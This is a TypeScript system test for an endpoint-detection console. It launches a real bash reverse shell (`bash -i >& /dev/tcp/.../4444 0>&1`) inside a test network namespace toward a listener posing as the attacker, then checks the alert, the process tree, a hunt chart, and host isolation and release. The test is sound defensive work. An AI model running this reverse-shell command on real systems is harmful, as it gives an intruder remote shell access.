// The end-to-end console scenario on the real kernel: a real `vigil agent` (auditd source) in an endpoint
// network namespace, a real reverse shell to a listener on a peer, the alert and its process tree in the console, a hunt
// with a stats chart, and isolation and release from the host page (real nftables in the endpoint namespace).
// Changes audit state and network namespaces: runs alone (system test) and restores both, also after failures.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import type { Browser, Page } from 'playwright-core';
import { ApiClient, cleanup, startAgent, startServer, waitFor, type AgentHandle, type ServerHandle } from '../harness.js';
import { createLan, leftovers, type Lan } from '../netns.js';
import { tcpProbe } from '../network-test-support.js';
import { launchBrowser, login, openTab, screenshotPath, uniqueId, visit, type ConsoleTab } from './browser.js';

const REVERSE_SHELL = 'Shell Reverse Connection Through /dev/tcp or /dev/udp';
const PEER_PORT = 4444;
const AF_UNIX_CONF = '/etc/audit/plugins.d/af_unix.conf';
let lan: Lan;
let server: ServerHandle;
let api: ApiClient;
let agent: AgentHandle;
let browser: Browser;
let tab: ConsoleTab;
let peer: string;
const marker = uniqueId();
const audit = { rules: '', running: false, afUnix: '' };

const auditdRunning = () => execFileSync('auditctl', ['-s'], { encoding: 'utf8' }).split('\n').some((l) => /^pid\s+[1-9]/.test(l));

before(async () => {
  audit.rules = execFileSync('auditctl', ['-l'], { encoding: 'utf8' });
  audit.running = auditdRunning();
  audit.afUnix = existsSync(AF_UNIX_CONF) ? readFileSync(AF_UNIX_CONF, 'utf8') : '';
  browser = await launchBrowser();
  lan = createLan(['server', 'endpoint', 'peer']);
  peer = lan.hosts.peer!.address;
  server = await startServer({ VIGIL_API_RATE_PER_MIN: '100000', VIGIL_API_RATE_BURST: '10000', VIGIL_LOGIN_RATE_PER_MIN: '1000' }, { wrap: lan.hosts.server!.wrap, host: lan.hosts.server!.address });
  api = await new ApiClient(server).login();
  agent = await startAgent(server, api, { wrap: lan.hosts.endpoint!.wrap });
  // The "attacker": accepts the reverse shell and tells it to exit.
  const listener = lan.spawn('peer', process.execPath, ['-e', `require('net').createServer((s) => { s.on('error', () => {}); s.end('exit\\n'); }).listen(${PEER_PORT}, () => console.log('listening'))`]);
  await new Promise<void>((resolve, reject) => {
    listener.stdout!.once('data', () => resolve());
    listener.once('exit', (code) => reject(new Error(`listener exited with ${code}`)));
  });
  tab = await openTab(browser, server);
  await login(tab.page);
});

after(async () => {
  await browser?.close();
  await cleanup();
  const id = lan?.id;
  lan?.destroy();
  if (lan) assert.deepEqual(leftovers(lan), [], `namespaces and links of test network ${id} removed`);
  assert.equal(execFileSync('auditctl', ['-l'], { encoding: 'utf8' }), audit.rules, 'audit rules restored');
  assert.equal(auditdRunning(), audit.running, 'auditd running state restored');
  assert.equal(existsSync(AF_UNIX_CONF) ? readFileSync(AF_UNIX_CONF, 'utf8') : '', audit.afUnix, 'af_unix plugin config restored');
});

/** Waits until the dialog's task finished and asserts it succeeded (the message names the state and result). */
async function finished(dialog: ReturnType<Page['getByRole']>): Promise<void> {
  const done = dialog.locator('[data-testid="task-progress"] :is([data-state="succeeded"], [data-state="failed"], [data-state="expired"], [data-state="cancelled"])');
  await done.waitFor({ timeout: 60_000 });
  assert.equal(await done.getAttribute('data-state'), 'succeeded', (await done.textContent()) ?? '');
}

async function shot(page: Page, name: string): Promise<void> {
  const path = screenshotPath(name);
  if (path) await page.screenshot({ path });
}

test('a real reverse shell becomes an alert with its process tree; hunt and chart it; isolate and release the host from the console', async () => {
  const { page } = tab;
  await visit(page, '/hosts', 'Hosts');
  const row = page.locator(`[data-host-id="${agent.agentId}"]`);
  await row.waitFor();
  await waitFor('the agent online', async () => ((await row.textContent())?.includes('online') ? true : undefined), 20_000, 500);

  // The suspicious action: an interactive shell redirected to a TCP socket on the peer.
  const shell = lan.spawn('endpoint', '/bin/bash', ['-c', `bash -i >& /dev/tcp/${peer}/${PEER_PORT} 0>&1 # ${marker}`]);
  await new Promise((resolve) => shell.once('exit', resolve));
  const alert = await waitFor('the reverse-shell alert', async () => {
    const alerts = (await api.get(`/api/v1/alerts?host_id=${agent.agentId}&limit=1000`)).body as { id: string; ruleTitle: string; fields: { value: unknown }[] }[];
    return alerts.find((a) => a.ruleTitle === REVERSE_SHELL && JSON.stringify(a.fields).includes(marker));
  }, 30_000, 250);

  await visit(page, '/alerts', 'Alerts');
  await page.locator(`[data-alert-id="${alert.id}"]`).getByRole('link', { name: REVERSE_SHELL }).click();
  await page.locator('#page-title', { hasText: REVERSE_SHELL }).waitFor();
  const graph = page.getByTestId('process-graph');
  await graph.locator('.graph-highlight[data-kind="process"]').waitFor({ timeout: 20_000 });
  const highlighted = await graph.locator('.graph-highlight').getAttribute('aria-label');
  assert.match(highlighted ?? '', /bash/, 'the shell is the highlighted process');
  await graph.locator('.graph-highlight').click();
  assert.match((await page.getByTestId('graph-details').textContent()) ?? '', new RegExp(`/dev/tcp/${peer.replace(/\./g, '\\.')}/${PEER_PORT}`));
  await shot(page, 'real-alert-process-tree');

  await visit(page, '/hunt', 'Hunt');
  await page.getByLabel('Hunt query').fill(`process where process.command_line contains "${marker}" | stats count() as n by process.name`);
  await page.getByRole('button', { name: 'Run hunt' }).click();
  await page.locator('[data-testid="hunt-results"][data-kind="stats"]').waitFor();
  const bars = await page.locator('[data-chart="hunt-stats"] rect[data-bar]').count();
  assert.ok(bars >= 1, 'the stats chart has bars');

  await visit(page, `/hosts/${agent.agentId}`);
  assert.equal(tcpProbe(lan, 'endpoint', peer, PEER_PORT), 'ok', 'the peer is reachable before isolation');
  await page.getByRole('button', { name: 'Isolate host…' }).click();
  const isolate = page.getByRole('dialog', { name: 'Isolate host' });
  await isolate.getByLabel('Reason *').fill(`reverse shell ${marker}`);
  await isolate.getByRole('button', { name: 'Run on 1 host' }).click();
  await finished(isolate);
  await isolate.getByRole('button', { name: 'Close' }).click();
  await page.getByTestId('isolation').getByText('isolated', { exact: true }).waitFor();
  assert.notEqual(tcpProbe(lan, 'endpoint', peer, PEER_PORT), 'ok', 'the isolated endpoint cannot reach the peer');
  // The agent's heartbeat reports the isolation it checked against the kernel's nftables table.
  await page.getByTestId('isolation-verified').waitFor({ timeout: 40_000 });
  assert.match((await page.getByTestId('isolation').textContent()) ?? '', /isolated \(verified by agent at [\d-]+ [\d:]+\)/);
  await shot(page, 'real-host-isolated');

  await page.getByRole('button', { name: 'Release isolation…' }).click();
  const release = page.getByRole('dialog', { name: 'Release host isolation' });
  await release.getByLabel('Reason *').fill('contained');
  await release.getByRole('button', { name: 'Run on 1 host' }).click();
  await finished(release);
  await release.getByRole('button', { name: 'Close' }).click();
  await page.getByTestId('isolation').getByText('not isolated').waitFor();
  assert.equal(tcpProbe(lan, 'endpoint', peer, PEER_PORT), 'ok', 'the peer is reachable again');
  assert.deepEqual(tab.takeProblems(), []);
});
